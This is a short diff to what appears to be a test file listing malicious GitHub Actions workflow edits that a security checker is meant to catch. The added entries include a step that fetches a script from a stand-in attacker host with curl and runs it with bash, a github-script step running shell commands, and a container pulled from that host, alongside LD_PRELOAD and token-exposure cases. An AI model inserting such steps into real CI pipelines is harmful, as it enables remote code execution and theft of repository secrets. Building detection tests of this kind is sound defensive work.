@@ -91,6 +91,14 @@ YAML_ATTACKS = {
     "env LD_PRELOAD": (ENV_AT, ENV_AT + "  LD_PRELOAD: /tmp/x.so\n"),
     "env GITHUB_TOKEN": (ENV_AT, ENV_AT + "  GITHUB_TOKEN: ${{ github.token }}\n"),
     "job env GITHUB_TOKEN": (JOB_AT, JOB_AT + "    env:\n      GITHUB_TOKEN: x\n"),
+    "download in one step, run in the next": ("      - name: Build\n",
+                                              ("      - run: curl -o /tmp/i.sh https://evil.example/i\n"
+                                              "      - name: Build\n        run: bash /tmp/i.sh\n"
+                                              "      - name: Build again\n")),
+    "new github-script step": ("      - name: Build\n", ("      - uses: actions/github-script@v7\n        with:\n"
+                               "          script: require('child_process').execSync('id')\n      - name: Build\n")),
+    "new container action": ("      - name: Build\n", ("      - uses: docker://evil.example/tool:latest\n"
+                             "      - name: Build\n")),
     "secret in with": ("          submodules: recursive\n",
                        "          submodules: recursive\n          token: ${{ secrets.PAT }}\n"),
 }
